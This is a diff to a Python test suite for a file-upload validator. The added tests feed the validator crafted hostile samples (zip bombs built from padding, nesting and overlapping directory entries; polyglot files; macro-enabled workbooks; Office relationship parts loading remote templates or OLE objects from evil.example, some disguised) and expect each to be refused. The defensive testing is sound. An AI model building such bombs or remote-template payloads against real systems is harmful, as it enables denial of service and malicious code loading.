@@ -3,17 +3,22 @@
 from __future__ import annotations
 
 import io
+import tracemalloc
 import zipfile
+from pathlib import PurePosixPath, PureWindowsPath
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 from web import of_files as f
 
-from domain.attached import LONGEST_NAME, MEDIA_TYPES, fault_of
+from domain.attached import LONGEST_NAME, MEDIA_TYPES, device_of, fault_of
 from domain.values import Malformed
 from interfaces.files.types import media_type
 
 PPT = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
 MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
+XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
 TAKEN = {
     "报告.pdf": f.PDF,
     "现场.jpg": f.JPG,
@@ -91,7 +96,88 @@ def unnamed() -> bytes:
     return bytes(content)
 
 
+RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+
+
+def related(what: str, target: str, encoding: str = "utf-8", quote: str = '"') -> bytes:
+    """A document that says where something of it lies."""
+    values = {"Type": RELATIONS + what, "Target": target, "TargetMode": "External"}
+    said = " ".join(f"{name}={quote}{value}{quote}" for name, value in values.items())
+    text = f"<Relationships><Relationship Id='a' {said}/></Relationships>"
+    return f.a_package(**{"word/_rels/settings.xml.rels": text.encode(encoding)})
+
+
+def a_lying_bomb() -> bytes:
+    """300 MB of blanks where the parts are listed."""
+    made = io.BytesIO()
+    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as package:
+        with package.open("[Content_Types].xml", "w") as file:
+            for _ in range(300):
+                file.write(b" " * 1_000_000)
+        package.writestr(f.WORD, "<document/>")
+    return made.getvalue()
+
+
+def a_bomb_in_a_bomb() -> bytes:
+    """Archives in archives: nobody here opens the inner ones, and none may be among the parts."""
+    inner = a_zip(**{"0": bytes(10_000_000)})
+    for _ in range(3):
+        inner = a_zip(**{str(n): inner for n in range(3)})
+    return a_zip(**{"a.zip": inner})
+
+
+def overlapping() -> bytes:
+    """One packed megabyte that a thousand entries of the directory all name."""
+    content = bytearray(f.a_package(**{"word/media/0.png": bytes(1_000_000)}))
+    end = content.rindex(b"PK\x05\x06")
+    first = int.from_bytes(content[end + 16 : end + 20], "little")
+    directory = bytes(content[first:end])
+    last = directory[directory.rindex(b"PK\x01\x02") :]
+    copies = b"".join(last.replace(b"0.png", b"%05d" % n) for n in range(1_000))
+    count = int.from_bytes(content[end + 10 : end + 12], "little") + 1_000
+    tail = bytearray(content[end:])
+    tail[8:10] = tail[10:12] = count.to_bytes(2, "little")
+    tail[12:16] = (len(directory) + len(copies)).to_bytes(4, "little")
+    return bytes(content[:end]) + copies + bytes(tail)
+
+
 REFUSED = {
+    "blanks without end": ("说明.docx", a_lying_bomb(), "file-broken"),
+    "archives in archives": ("说明.docx", a_bomb_in_a_bomb(), "file-broken"),
+    "one content by a thousand names": ("说明.docx", overlapping(), "file-broken"),
+    "a page that is a PDF too": ("报告.pdf", b"<script>1</script>\n" + f.PDF, "file-type"),
+    "a photograph that is an archive": ("图.png", f.PNG + a_zip(a=b"x"), "file-hidden"),
+    "a sound that is an archive": ("录音.wav", f.a_recording() + a_zip(a=b"x"), "file-hidden"),
+    "a document that is a PDF too": ("说明.docx", f.PDF + f.a_package(), "file-type"),
+    "macros in a workbook": (
+        "清单.xlsx", f.a_package("xl/workbook.xml", MACROS, **{"xl/vbaProject.bin": b"x"}),
+        "file-active",
+    ),
+    "macros in slides": (
+        "汇报.pptx", f.a_package("ppt/presentation.xml", PPT, **{"ppt/vbaProject.bin": b"x"}),
+        "file-active",
+    ),
+    "macros of 1992": (
+        "清单.xlsx",
+        f.a_package("xl/workbook.xml", XLSX, **{"xl/macrosheets/sheet1.xml": b"<x/>"}),
+        "file-active",
+    ),
+    "a template from elsewhere": (
+        "说明.docx", related("attachedTemplate", "https://evil.example/a.dotm"), "file-active"
+    ),
+    "a template from another share": (
+        "说明.docx", related("attachedTemplate", r"\\evil.example\a.dotm"), "file-active"
+    ),
+    "a template from elsewhere, in disguise": (
+        "说明.docx", related("attachedTemplate", "&#104;ttp://evil.example/a", quote="'"),
+        "file-active",
+    ),
+    "an object from elsewhere": (
+        "说明.docx", related("oleObject", "mhtml:http://evil.example/a!x"), "file-active"
+    ),
+    "relations in another writing": (
+        "说明.docx", related("attachedTemplate", "https://evil.example", "utf-16"), "file-broken"
+    ),
     "a web page": ("报告.pdf", b"<!DOCTYPE html><script>alert(1)</script>", "file-type"),
     "a drawing with scripts": ("图.png", b"<svg xmlns='http://www.w3.org/2000/svg'/>", "file-type"),
     "a program": ("报告.pdf", b"MZ" + b"\0" * 200, "file-type"),
@@ -173,3 +259,56 @@ def test_plain_names_are_taken(name: str) -> None:
 )  # fmt: skip
 def test_names_that_play_tricks_are_refused(name: str) -> None:
     assert fault_of(name) is not None
+
+
+@pytest.mark.parametrize(
+    ("what", "target"),
+    [
+        ("hyperlink", "https://www.example.gov.cn/notice"),
+        ("attachedTemplate", "file:///C:\\Users\\li\\Templates\\Normal.dotm"),
+        ("image", "https://www.example.gov.cn/logo.png"),
+    ],
+)
+def test_what_every_document_may_name_is_taken(what: str, target: str) -> None:
+    assert media_type(io.BytesIO(related(what, target)), "说明.docx") == MEDIA_TYPES["docx"]
+
+
+def test_looking_into_a_bomb_takes_little_memory() -> None:
+    bombs = [a_lying_bomb(), a_bomb()]
+    tracemalloc.start()
+    try:
+        for bomb in bombs:
+            with pytest.raises(Malformed):
+                media_type(io.BytesIO(bomb), "说明.docx")
+        _, peak = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+    assert peak < 20_000_000
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "CON.pdf", "con.pdf", "Aux.docx", "NUL.tar.pdf", "prn .pdf", "COM1.pdf", "lpt9.jpg",
+        "COM\u00b9.pdf", "CONIN$.pdf",
+    ],
+)  # fmt: skip
+def test_names_of_devices_are_known(name: str) -> None:
+    told = device_of(name)
+    assert told is not None and name in told.zh
+
+
+@pytest.mark.parametrize(
+    "name", ["CONTRACT.pdf", "com10.pdf", "COM0.pdf", "nullity.pdf", "a.con.pdf", "报告 nul.pdf"]
+)
+def test_names_that_only_begin_like_one_are_none(name: str) -> None:
+    assert device_of(name) is None
+
+
+@given(st.text(min_size=1, max_size=140))
+def test_whatever_a_file_is_called_a_name_that_is_taken_is_one_plain_name(name: str) -> None:
+    full = f"{name}.pdf"
+    if fault_of(full) is None:
+        assert PurePosixPath(full).name == full == PureWindowsPath(full).name
+        assert full.isprintable() or " " in full or "\u3000" in full or "\xa0" in full
+        assert len(full) <= LONGEST_NAME
